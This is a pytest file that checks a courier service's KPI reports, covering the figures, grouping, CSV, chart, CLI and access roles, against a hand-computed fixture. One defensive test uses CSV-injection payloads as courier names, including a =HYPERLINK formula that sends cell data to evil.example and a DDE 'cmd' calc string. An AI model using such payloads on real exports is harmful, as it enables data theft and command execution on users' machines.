"""The service-quality KPIs on a hand-computed fixture: every numerator and denominator, groups, CSV, bounds, roles.

The fixture (two couriers in two depots, two service days) is written as facts
on real tasks: the report reads facts, whichever path wrote them, and here the
facts are set directly so that every combination shows (tests/api/test_kpi_day.py
builds a day through the handheld and the API only). The numbers each figure
must give are worked out by hand in the docstring of `world`.
"""
import csv
import io
import tempfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import select, text, update

from server.extensions import db
from server.models import (Appointment, AppointmentWindow, Complaint, ComplaintContact, ComplaintReopening, Handover, HandoverStep, Rating,
                           Task, TaskAssignment)
from server.services import kpis
from tests.sync.conftest import SHANGHAI

DAY1, DAY2, DAY3 = date(2026, 10, 5), date(2026, 10, 6), date(2026, 10, 7)
T = datetime(2026, 10, 5, 1, 0, tzinfo=timezone.utc)
RANGE = {"from": DAY1.isoformat(), "to": DAY2.isoformat()}


def _facts(make, courier, *, kind="delivery", day=DAY1, appointment="confirmed", notice=False, status=None,
           handover=None, took=None, rating=None, refused=(), gift=None) -> str:
    """A task of the courier (None: unassigned) with the facts given; its id.

    refused: (step kind, code) of handover steps refused; gift: the task's enclosed gift.
    """
    task = make.task(courier=courier, kind=kind, cod_amount=0, fees=[])
    values = {"service_date": day, "gift_description": gift}
    if status:
        values["status"] = status
    db.session.execute(update(Task).where(Task.id == task["id"]).values(**values))
    db.session.execute(update(Appointment).where(Appointment.task_id == task["id"])
                       .values(status=appointment, notice_in_time=notice))
    # The figures read each window's own decision (issue 21): the task's window is decided as the appointment says.
    decided = appointment in ("kept", "late", "missed", "not_attempted", "replaced", "review")
    db.session.execute(update(AppointmentWindow).where(AppointmentWindow.appointment_id == select(Appointment.id).where(
        Appointment.task_id == task["id"]).scalar_subquery()).values(
        outcome=appointment if decided else None, notice_in_time=notice, attempt=1, decided_at=T if decided else None))
    if handover is not None:
        completed = T + timedelta(seconds=took) if took is not None else T
        db.session.add(Handover(task_id=task["id"], completed_at=completed, **{
            "recipient_verified": False, "discrepancy": False, "damaged": False, "signed": False,
            "gift_disclosed": False, "not_at_address": False, **handover}))
        db.session.execute(update(TaskAssignment).where(TaskAssignment.task_id == task["id"]).values(assigned_at=T))
    if rating is not None:
        db.session.add(Rating(task_id=task["id"], score=rating))
    for step, code in refused:
        db.session.add(HandoverStep(task_id=task["id"], courier_id=courier["id"], kind=step, outcome="rejected",
                                    code=code, device_time=T, received_at=T, data={}))
    db.session.commit()
    return task["id"]


def _complaint(client, make, courier, *, received, response=None, due=None, resolved=None, first_contact=None,
               satisfaction=None, contacts=(), reopened=False) -> int:
    """A complaint about the courier through the API, then its times set as the fixture needs; its id.

    contacts: the times of its contacts with the customer (the first response's included); reopened: it was
    resolved once before, reopened, and resolved again at `resolved`. first_contact is the deprecated box.
    """
    answer = client.post("/api/v1/dispatch/complaints", headers=make.headers("quality"), json={
        "courier_id": courier["id"], "channel": "phone", "category": "late", "text": "late"})
    assert answer.status_code == 201, answer.json
    db.session.execute(update(Complaint).where(Complaint.id == answer.json["id"]).values(
        received_at=received, response_due_at=due or received + timedelta(hours=24), first_response_at=response,
        resolved_at=resolved, resolved_at_first_contact=first_contact, satisfaction=satisfaction,
        status="resolved" if resolved else "responded" if response else "open"))
    for n, at in enumerate(contacts):
        db.session.add(ComplaintContact(complaint_id=answer.json["id"], kind="contact" if n else "first_response",
                                        channel="phone", note="called", contacted_at=at))
    if reopened:
        db.session.add(ComplaintReopening(complaint_id=answer.json["id"], reason="not solved", reopened_at=resolved,
                                          resolved_at=resolved - timedelta(minutes=30), outcome="upheld"))
    db.session.commit()
    return answer.json["id"]


DELIVERED_OK = {"outcome": "delivered", "recipient_verified": True, "inspection": "accepted", "signed": True,
                "items_inspected": 2, "items_damaged": 0, "items_short": 0, "distance_m": 15.0}


@pytest.fixture
def world(client, make):
    """Couriers A (depot PD01) and B (PD02); tasks 1-12 and complaints c1-c6.

    1  A delivery day1 kept, signed for 15 m from the stop, recipient checked, inspected, 2 lines, 1 h, rated 5
    2  A delivery day1 late (notice in time), left in a locker with consent, 2 h, rated 2
    3  A pickup   day2 kept, collected, 0.5 h, rated 4
    4  B delivery day1 missed (no notice), signed 1.5 h but 450 m away (not_at_address), recipient unchecked,
       4 lines: 1 damaged, 1 short
    5  B delivery day2 late (no notice), refused at inspection (recipient unchecked), 2 lines both damaged
    6  B pickup   day2 missed (notice in time), still open
    7  A delivery day3 (outside the range) kept, delivered, rated 1
    8  unassigned delivery day1, unconfirmed
    9  B delivery day1 (appointment confirmed, undecided) with a gift: a sign refused gift_not_disclosed, then the
       gift told and signed 20 m away, recipient checked, 10 min
    10 A delivery day2, still open: a locker drop refused authorization_required (no consent)
    11 A delivery day2, signed in person by the checked recipient after the inspection, 20 min, but the stop has
       no coordinates (distance unknown)
    12 B delivery day1, still open: a sign refused inspection_required (left before inspection)

    on_time_delivery 1/4 (1 of 1,2,4,5); on_time_pickup 1/2 (3 of 3,6);
    assignment_to_signoff (3600+7200+1800+5400+600+1200)=19800/6 (1,2,3,4,9,11);
    delivered_to_address 3/6 (1, 2, 9 of 1,2,4,9,10,11; 4 too far, 10 dropped without leave, 11 unknown: 1 unknown);
    signoff_compliance 2/6 (1, 11 of 1,4,5,9,11,12; 2 left with consent is not a sign-off, 10 never began;
      4 and 5 without the recipient check, 9 and 12 with a step refused for order);
    exception_notification 2/4 (2,6 of 2,4,5,6);
    damage_rate 3/8 and short_at_door_rate 1/8 (lines of 1,4,5); loss_rate 0/5 (the parcel of each delivery handed
    over: 1,2,4,9,11; none lost; nothing scanned); satisfaction_mean 11/3, satisfaction_share 2/3; no field events
    (the facts are written, not pushed): tracking_timeliness and tracking_accuracy 0/0.
    c1 A day1 answered in time, one contact (the response), resolved in 2 h, satisfied
    c2 B day2 answered late (30 h), a second contact at 35 h, resolved at 40 h, dissatisfied
    c3 B received day2 00:30 local (day1 in UTC), unanswered and overdue
    c4 A day2 unanswered, not yet due
    c5 A day3 (outside)
    c6 A day1 14:00 answered in time, one contact, resolved, reopened and resolved again at 3 h (its box says
       "at first contact")
    complaint_response_on_time 2/4 (c1, c6 of c1,c2,c3,c6); complaint_handling_time (7200+144000+10800)=162000/3;
    first_contact_resolution 1/3 (c1 of c1,c2,c6: c2 took two contacts, c6 was reopened); complaint_satisfaction 1/2.
    """
    a, b = make.courier(depot="PD01"), make.courier(depot="PD02")
    in_person = {**DELIVERED_OK, "items_inspected": None, "items_damaged": None, "items_short": None}
    ids = {
        1: _facts(make, a, appointment="kept", status="delivered", handover=DELIVERED_OK, took=3600, rating=5),
        2: _facts(make, a, appointment="late", notice=True, status="delivered", took=7200, rating=2,
                  handover={"outcome": "delivered", "alternate_place": "locker",
                            "authorization": {"via": "customer_link", "reference": ""}}),
        3: _facts(make, a, kind="pickup", day=DAY2, appointment="kept", status="collected", took=1800, rating=4,
                  handover={"outcome": "collected", "signed": True}),
        4: _facts(make, b, appointment="missed", status="delivered", took=5400,
                  handover={**DELIVERED_OK, "recipient_verified": False, "not_at_address": True, "distance_m": 450.0,
                            "items_inspected": 4, "items_damaged": 1, "items_short": 1}),
        5: _facts(make, b, day=DAY2, appointment="late", status="refused",
                  handover={"outcome": "refused", "inspection": "refused", "items_inspected": 2, "items_damaged": 2,
                            "items_short": 0}),
        6: _facts(make, b, kind="pickup", day=DAY2, appointment="missed", notice=True),
        7: _facts(make, a, day=DAY3, appointment="kept", status="delivered", handover=DELIVERED_OK, took=60,
                  rating=1),
        8: _facts(make, None, appointment="unconfirmed"),
        9: _facts(make, b, status="delivered", took=600, gift="tea set", refused=[("sign", "gift_not_disclosed")],
                  handover={**in_person, "gift_disclosed": True, "distance_m": 20.0}),
        10: _facts(make, a, day=DAY2, refused=[("deliver_alternate", "authorization_required")]),
        11: _facts(make, a, day=DAY2, status="delivered", took=1200, handover={**in_person, "distance_m": None}),
        12: _facts(make, b, refused=[("sign", "inspection_required")]),
    }
    day1_10h = datetime(2026, 10, 5, 10, 0, tzinfo=SHANGHAI)
    day1_14h = datetime(2026, 10, 5, 14, 0, tzinfo=SHANGHAI)
    day2_9h = datetime(2026, 10, 6, 9, 0, tzinfo=SHANGHAI)
    hours = lambda start, *n: [start + timedelta(hours=h) for h in n]  # noqa: E731 - times after a start
    complaints = {
        "c1": _complaint(client, make, a, received=day1_10h, response=day1_10h + timedelta(hours=1),
                         resolved=day1_10h + timedelta(hours=2), first_contact=True, satisfaction="satisfied",
                         contacts=hours(day1_10h, 1)),
        "c2": _complaint(client, make, b, received=day2_9h, response=day2_9h + timedelta(hours=30),
                         resolved=day2_9h + timedelta(hours=40), first_contact=False, satisfaction="dissatisfied",
                         contacts=hours(day2_9h, 30, 35)),
        "c3": _complaint(client, make, b, received=datetime(2026, 10, 6, 0, 30, tzinfo=SHANGHAI)),
        "c4": _complaint(client, make, a, received=day2_9h, due=datetime.now(timezone.utc) + timedelta(days=1)),
        "c5": _complaint(client, make, a, received=datetime(2026, 10, 7, 9, 0, tzinfo=SHANGHAI),
                         response=datetime(2026, 10, 7, 9, 30, tzinfo=SHANGHAI)),
        "c6": _complaint(client, make, a, received=day1_14h, response=day1_14h + timedelta(hours=1),
                         resolved=day1_14h + timedelta(hours=3), first_contact=True, contacts=hours(day1_14h, 1),
                         reopened=True),
    }
    return {"a": a, "b": b, "tasks": ids, "complaints": complaints}


EXPECTED = {
    "on_time_delivery": (1, 4, 0.25), "on_time_pickup": (1, 2, 0.5), "assignment_to_signoff": (19800, 6, 3300.0),
    "delivered_to_address": (3, 6, 0.5), "signoff_compliance": (2, 6, 0.3333), "exception_notification": (2, 4, 0.5),
    "damage_rate": (3, 8, 0.375), "short_at_door_rate": (1, 8, 0.125), "loss_rate": (0, 5, 0.0),
    "satisfaction_mean": (11, 3, 3.67),
    "satisfaction_share": (2, 3, 0.6667), "complaint_response_on_time": (2, 4, 0.5),
    "complaint_handling_time": (162000, 3, 54000.0), "first_contact_resolution": (1, 3, 0.3333),
    "complaint_satisfaction": (1, 2, 0.5),
    # No task here has a service product (legacy manifests): the deliveries of days 1-2 but the refused 5 (1, 2, 4,
    # 8, 9, 10, 11, 12: one parcel each) are promised_time_achievement's unknowns, never a pass; none has a
    # collection time, so collect_to_signoff has nothing (tests/api/test_promise.py has the figures' own day).
    "promised_time_achievement": (0, 8, 0.0), "collect_to_signoff": (0, 0, None),
    "tracking_timeliness": (0, 0, None), "tracking_accuracy": (0, 0, None),
    # No claims in this fixture (tests/api/test_claims.py computes them): nothing over nothing.
    "claim_time": (0, 0, None), "claim_time_to_pay": (0, 0, None), "claim_accuracy": (0, 0, None),
    # No leak incidents either (tests/api/test_leak_kpi.py): a count of none is 0, not unknown.
    "leak_incidents": (0, 0, 0),
    # No course exists in this fixture, and its couriers were created after the period (tests/api/test_training_kpis.py).
    "pre_job_training_pass_rate": (0, 0, None), "periodic_training_coverage": (0, 0, None),
}
# every other figure's unknown is null; tracking_timeliness has unknowns (suspect clocks), none here
UNKNOWN = {"delivered_to_address": 1, "promised_time_achievement": 8, "tracking_timeliness": 0, "leak_incidents": 0}


def _get(client, make, role="quality", **query):
    """GET the report."""
    return client.get("/api/v1/reports/kpis", query_string={**RANGE, **query}, headers=make.headers(role))


def _triples(group: dict) -> dict:
    """{figure: (numerator, denominator, value)} of a group."""
    return {name: (f["numerator"], f["denominator"], f["value"]) for name, f in group["figures"].items()}


def test_every_figure_on_the_hand_computed_fixture(client, make, world):
    """The totals match the hand computation, numerator and denominator both, for every figure."""
    answer = _get(client, make)
    assert answer.status_code == 200, answer.json
    assert answer.json["from"] == "2026-10-05" and answer.json["to"] == "2026-10-06"
    assert answer.json["group_by"] is None and answer.json["groups"] == []
    assert _triples(answer.json["total"]) == EXPECTED
    assert {f["unit"] for f in answer.json["total"]["figures"].values()} == {"ratio", "seconds", "score", "count"}
    assert {name: f["unknown"] for name, f in answer.json["total"]["figures"].items()} == {
        name: UNKNOWN.get(name) for name in EXPECTED}


def test_grouped_by_courier_depot_and_day(client, make, world):
    """Per courier, depot and day; each grouping's groups add up to the same totals."""
    a, b = world["a"]["id"], world["b"]["id"]
    by_courier = _get(client, make, group_by="courier").json
    groups = {g["group"]: g for g in by_courier["groups"]}
    assert set(groups) == {a, b, "-"}
    assert groups[a]["label"] == world["a"]["name"]
    assert _triples(groups[a])["on_time_delivery"] == (1, 2, 0.5)
    assert _triples(groups[b])["on_time_delivery"] == (0, 2, 0.0)
    assert _triples(groups[a])["satisfaction_mean"] == (11, 3, 3.67)
    assert _triples(groups[b])["damage_rate"] == (3, 6, 0.5)
    assert _triples(groups[b])["complaint_response_on_time"] == (0, 2, 0.0)
    assert _triples(groups["-"])["on_time_delivery"] == (0, 0, None)
    by_depot = {g["group"]: g for g in _get(client, make, group_by="depot").json["groups"]}
    assert set(by_depot) == {"PD01", "PD02", "-"}
    assert _triples(by_depot["PD01"]) == {**_triples(groups[a])}
    by_day = {g["group"]: g for g in _get(client, make, group_by="day").json["groups"]}
    assert set(by_day) == {"2026-10-05", "2026-10-06"}
    assert _triples(by_day["2026-10-05"])["on_time_delivery"] == (1, 3, 0.3333)
    assert _triples(by_day["2026-10-06"])["on_time_pickup"] == (1, 2, 0.5)
    # c3 was received 00:30 local on day 2 (day 1 in UTC): the depot's day counts.
    assert _triples(by_day["2026-10-05"])["complaint_response_on_time"] == (2, 2, 1.0)
    assert _triples(by_day["2026-10-06"])["complaint_response_on_time"] == (0, 2, 0.0)
    for report in (by_courier, {"groups": list(by_depot.values())}, {"groups": list(by_day.values())}):
        for name, (numerator, denominator, _value) in EXPECTED.items():
            assert sum(g["figures"][name]["numerator"] for g in report["groups"]) == numerator
            assert sum(g["figures"][name]["denominator"] for g in report["groups"]) == denominator
        assert sum(g["figures"]["delivered_to_address"]["unknown"] for g in report["groups"]) == 1


def test_the_dates_bound_the_report(client, make, world):
    """Day 3 alone has task 7 and complaint c5; day 1 alone leaves out day 2's tasks."""
    day3 = client.get("/api/v1/reports/kpis", query_string={"from": "2026-10-07", "to": "2026-10-07"},
                      headers=make.headers("admin")).json["total"]
    assert _triples(day3)["on_time_delivery"] == (1, 1, 1.0)
    assert _triples(day3)["satisfaction_mean"] == (1, 1, 1.0)
    assert _triples(day3)["complaint_response_on_time"] == (1, 1, 1.0)
    day1 = _get(client, make, to="2026-10-05").json["total"]
    assert _triples(day1)["on_time_pickup"] == (0, 0, None)
    assert _triples(day1)["assignment_to_signoff"] == (16800, 4, 4200.0)


def test_each_figure_links_to_the_tasks_behind_it(client, make, world):
    """The link lists the denominator's tasks (or complaints), counted ones flagged; paging keeps every one."""
    ids, a = world["tasks"], world["a"]["id"]
    total = _get(client, make).json["total"]["figures"]
    link = total["on_time_delivery"]["tasks_url"]
    listed = client.get(link, headers=make.headers("dispatcher")).json
    assert listed["figure"] == "on_time_delivery" and listed["subject"] == "task"
    assert {item["id"]: item["counted"] for item in listed["items"]} == {
        ids[1]: True, ids[2]: False, ids[4]: False, ids[5]: False}
    address = client.get(total["delivered_to_address"]["tasks_url"], headers=make.headers("admin")).json["items"]
    assert {item["id"]: (item["counted"], item["unknown"]) for item in address} == {
        ids[1]: (True, False), ids[2]: (True, False), ids[4]: (False, False), ids[9]: (True, False),
        ids[10]: (False, False), ids[11]: (False, True)}
    damage = client.get(total["damage_rate"]["tasks_url"], headers=make.headers("admin")).json["items"]
    assert {item["id"]: item["counted"] for item in damage} == {ids[1]: False, ids[4]: True, ids[5]: True}
    complaints = client.get(total["complaint_response_on_time"]["tasks_url"], headers=make.headers("admin")).json
    assert complaints["subject"] == "complaint"
    assert sorted(int(i["id"]) for i in complaints["items"]) == sorted(
        world["complaints"][c] for c in ("c1", "c2", "c3", "c6"))
    fcr = client.get(total["first_contact_resolution"]["tasks_url"], headers=make.headers("admin")).json["items"]
    assert {int(i["id"]): i["counted"] for i in fcr} == {
        world["complaints"]["c1"]: True, world["complaints"]["c2"]: False, world["complaints"]["c6"]: False}
    group = next(g for g in _get(client, make, group_by="courier").json["groups"] if g["group"] == a)
    url = group["figures"]["signoff_compliance"]["tasks_url"]
    assert parse_qs(urlsplit(url).query) == {"from": ["2026-10-05"], "to": ["2026-10-06"], "group_by": ["courier"],
                                             "group": [a]}
    assert sorted(client.get(url, headers=make.headers("admin")).json["items"], key=lambda i: i["id"]) == sorted(
        [{"id": ids[n], "counted": True, "unknown": False} for n in (1, 11)], key=lambda i: i["id"])
    pages, cursor = [], None
    while True:
        query = {**RANGE, "limit": 1, **({"cursor": cursor} if cursor else {})}
        page = client.get("/api/v1/reports/kpis/exception_notification/tasks", query_string=query,
                          headers=make.headers("admin")).json
        pages += page["items"]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert sorted(i["id"] for i in pages) == sorted(ids[n] for n in (2, 4, 5, 6)) and len(pages) == 4
    day = client.get("/api/v1/reports/kpis/on_time_pickup/tasks",
                     query_string={**RANGE, "group_by": "day", "group": "2026-10-06"}, headers=make.headers("admin"))
    assert [i["id"] for i in day.json["items"]] == sorted([ids[3], ids[6]])


def test_csv_has_every_group_and_figure_with_its_counts(client, make, world):
    """CSV: a line per group and figure, the totals last, the same numbers as the JSON."""
    answer = _get(client, make, group_by="depot", format="csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 4 * len(EXPECTED)  # PD01, PD02, -, total
    totals = {r["figure"]: (int(r["numerator"]), int(r["denominator"]), float(r["value"]) if r["value"] else None)
              for r in rows if r["group"] == "total"}
    assert totals == EXPECTED
    assert {r["figure"]: r["unknown"] for r in rows if r["group"] == "total"} == {
        name: str(UNKNOWN[name]) if name in UNKNOWN else "" for name in EXPECTED}
    assert {r["group"] for r in rows} == {"PD01", "PD02", "-", "total"}
    empty = [r for r in rows if r["group"] == "-" and r["figure"] == "on_time_delivery"]
    assert empty[0]["value"] == "" and empty[0]["denominator"] == "0"


@pytest.mark.parametrize("query,field", [
    ({"from": "2026-10-06", "to": "2026-10-05"}, "from"),
    ({"from": "2026-10-05", "to": "2026-10-06", "group_by": "week"}, "group_by"),
    ({"from": "2026-10-05", "to": "2026-10-06", "format": "xml"}, "format"),
    ({"from": "2025-01-01", "to": "2026-10-06"}, "to"),
    ({"from": "yesterday", "to": "2026-10-06"}, "from"),
    ({"to": "2026-10-06"}, "from"),
])
def test_bad_input_names_the_field(client, make, query, field):
    """422 with the field named, on the report, its chart and its task lists."""
    for path in ("/api/v1/reports/kpis", "/api/v1/reports/kpis/chart.png", "/api/v1/reports/kpis/loss_rate/tasks"):
        if path != "/api/v1/reports/kpis" and field in ("group_by", "format"):
            continue
        answer = client.get(path, query_string=query, headers=make.headers("admin"))
        assert answer.status_code == 422, (path, answer.json)
        assert field in answer.json["fields"], (path, answer.json)


def test_unknown_figure_and_bad_day_group(client, make):
    """An unknown figure is 404; a day group that is not a date is 422 naming group."""
    missing = client.get("/api/v1/reports/kpis/happiness/tasks", query_string=RANGE, headers=make.headers("admin"))
    assert missing.status_code == 404 and missing.json["code"] == "figure_not_found"
    bad = client.get("/api/v1/reports/kpis/loss_rate/tasks", query_string={**RANGE, "group_by": "day",
                                                                           "group": "monday"},
                     headers=make.headers("admin"))
    assert bad.status_code == 422 and "group" in bad.json["fields"]


def test_office_roles_only(client, make):
    """admin, dispatcher and quality read the report; maintenance and a courier's handheld get 403."""
    for role in ("admin", "dispatcher", "quality"):
        assert _get(client, make, role=role).status_code == 200
    assert _get(client, make, role="maintenance").status_code == 403
    courier = make.courier()
    token = make.device(courier)["token"]
    for path in ("/api/v1/reports/kpis", "/api/v1/reports/kpis/chart.png", "/api/v1/reports/kpis/loss_rate/tasks"):
        answer = client.get(path, query_string=RANGE, headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 403 and answer.json["code"] == "forbidden"


def test_the_chart_is_a_png(client, make, world):
    """The daily trend is a PNG image of the size drawn."""
    answer = client.get("/api/v1/reports/kpis/chart.png", query_string=RANGE, headers=make.headers("dispatcher"))
    assert answer.status_code == 200 and answer.mimetype == "image/png"
    body = answer.data
    assert body[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(body[16:20], "big"), int.from_bytes(body[20:24], "big")
    assert (width, height) == (1000, 700)
    (Path(tempfile.gettempdir()) / "fieldops-kpi-chart.png").write_bytes(body)  # for a person to look at


def test_cli_prints_the_table_and_draws_the_chart(app, make, world, tmp_path):
    """`fieldops report kpis` prints every figure per group and writes the chart."""
    chart = tmp_path / "kpis.png"
    result = app.test_cli_runner().invoke(args=["report", "kpis", "--from", "2026-10-05", "--to", "2026-10-06",
                                                "--group-by", "depot", "--chart", str(chart)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].split() == ["figure", "-", "PD01", "PD02", "total"]
    row = next(line for line in lines if line.startswith("on_time_delivery"))
    assert "25.0% 1/4" in row
    unknown = next(line for line in lines if line.startswith("delivered_to_address unknown"))
    assert unknown.split()[-1] == "1"
    assert chart.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    bad = app.test_cli_runner().invoke(args=["report", "kpis", "--from", "2026-10-06", "--to", "2026-10-05"])
    assert bad.exit_code != 0 and "from" in bad.output


def test_an_inspection_through_the_handheld_feeds_the_damage_and_short_at_door_rates(client, make):
    """pod.inspect keeps its line counts: one damaged, one short of three lines. Its exception scans (P1 damaged,
    P2 short) make two parcels handled for loss_rate, none lost."""
    from tests.sync.conftest import Device
    from tests.sync.test_handover import upload
    courier = make.courier()
    device = Device(client, make.device(courier))
    task = make.task(courier=courier, parcels=[{"parcel_no": "P1", "count": 1}, {"parcel_no": "P2", "count": 2},
                                               {"parcel_no": "P3", "count": 1}])
    photo = upload(device)
    result = device.push([device.op("pod.inspect", task["id"], {
        "items": [{"parcel_no": "P1", "counted": 1, "condition": "damaged"},
                  {"parcel_no": "P2", "counted": 1, "condition": "ok"},
                  {"parcel_no": "P3", "counted": 1, "condition": "ok"}],
        "customer_accepted": True, "photos": [photo]})])["results"][0]
    assert result["status"] == "applied", result
    day = date.fromisoformat(task["window"]["start"][:10])
    totals = kpis.report(start=day - timedelta(days=1), end=day + timedelta(days=1))["total"]["figures"]
    assert (totals["damage_rate"]["numerator"], totals["damage_rate"]["denominator"]) == (1, 3)
    assert (totals["short_at_door_rate"]["numerator"], totals["short_at_door_rate"]["denominator"]) == (1, 3)
    assert (totals["loss_rate"]["numerator"], totals["loss_rate"]["denominator"]) == (0, 2)


@pytest.mark.parametrize("query,field", [
    ({"from": "0001-01-01", "to": "0001-01-02"}, "from"),
    ({"from": "9999-12-30", "to": "9999-12-31"}, "from"),
    ({"from": "2099-12-31", "to": "2100-01-01"}, "to"),
])
def test_dates_outside_the_calendar_the_service_keeps_are_422_not_500(client, make, query, field):
    """Year 1 or 9999 overflowed turning a depot day into UTC (a 500); now the report, the chart, the task lists
    and the CLI all refuse them naming the date."""
    for path in ("/api/v1/reports/kpis", "/api/v1/reports/kpis/chart.png", "/api/v1/reports/kpis/loss_rate/tasks",
                 "/api/v1/reports/kpis/complaint_response_on_time/tasks"):
        answer = client.get(path, query_string=query, headers=make.headers("quality"))
        assert answer.status_code == 422 and field in answer.json["fields"], (path, answer.json)
    result = client.application.test_cli_runner().invoke(args=["report", "kpis", "--from", query["from"],
                                                               "--to", query["to"]])
    assert result.exit_code != 0 and "Traceback" not in result.output and field in result.output, result.output


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_a_day_group_outside_the_calendar_is_422(client, make, day):
    """group=<day> of a complaint figure is turned into UTC bounds too: a 422 naming group, not a 500."""
    answer = client.get("/api/v1/reports/kpis/complaint_response_on_time/tasks",
                        query_string={**RANGE, "group_by": "day", "group": day}, headers=make.headers("admin"))
    assert answer.status_code == 422 and "group" in answer.json["fields"], answer.json


def test_the_csv_never_carries_a_formula_from_a_courier_name(client, make):
    """A courier named =HYPERLINK(...) (or +, -, @): the CSV cell starts with a quote, so a spreadsheet
    shows the name and runs nothing; the JSON keeps the name as it is. (Names are trimmed, so no tab or CR
    can open one.)"""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    for name in names:
        courier = make.courier(name=name)
        _facts(make, courier)
    answer = _get(client, make, group_by="courier", format="csv")
    assert answer.status_code == 200
    labels = {r["label"] for r in csv.DictReader(io.StringIO(answer.text))}
    assert {"'" + name for name in names} <= labels
    assert not any(label[:1] in ("=", "+", "-", "@", "\t", "\r") for label in labels)
    plain = _get(client, make, group_by="courier")
    assert set(names) <= {g["label"] for g in plain.json["groups"]}


def test_on_sqlite_a_range_of_tasks_is_visited_in_stored_order_and_by_day_in_index_order(app, world, engine_name):
    """SQLite: the aggregation walks the range's sorted rowids, then each task, then its facts; by day, the index;
    a task's refused handover steps come from the partial index of refused steps, never from every step.

    Only speed depends on it (docs/benchmarks.md, "KPIs"), so nothing else would notice a SQLite
    that dropped the subquery's ORDER BY, or a day grouping that sorted a month of rows.
    """
    if engine_name != "sqlite":
        pytest.skip("a SQLite plan")

    refusals = ["MATERIALIZE refused", "SCAN handover_steps USING INDEX ix_handover_steps_rejected"]

    def plan(group_by):
        """EXPLAIN QUERY PLAN of the task aggregation, one step a line (the refused steps' table apart: it is
        read once from its partial index, then looked up per task by an automatic index)."""
        compiled = kpis._aggregate_query("tasks", group_by, DAY1, DAY2).compile(
            db.engine, compile_kwargs={"literal_binds": True})
        steps = [row[3] for row in db.session.execute(text(f"EXPLAIN QUERY PLAN {compiled}"))]
        first = steps.index(refusals[0])
        assert steps[first:first + 2] == refusals, steps
        assert "SEARCH refused USING AUTOMATIC COVERING INDEX (task_id=?) LEFT-JOIN" in steps, steps
        return steps[:first] + steps[first + 2:]

    for group_by in (None, "courier", "depot"):
        steps = plan(group_by)
        stored, fetched = steps.index("SCAN stored"), steps.index("SEARCH tasks USING INTEGER PRIMARY KEY (rowid=?)")
        assert "USE TEMP B-TREE FOR ORDER BY" in steps[:stored]
        assert stored < fetched < min(i for i, step in enumerate(steps) if step.startswith("SEARCH windows"))
    by_day = plan("day")
    # The windows' and contact attempts' per-task sums are materialised first (their own GROUP BYs); the tasks after.
    tasks_from = next(i for i, step in enumerate(by_day) if step.startswith("SEARCH tasks"))
    assert by_day[tasks_from].startswith("SEARCH tasks USING INDEX ix_tasks_service_date")
    assert not any("TEMP B-TREE" in step for step in by_day[tasks_from:])
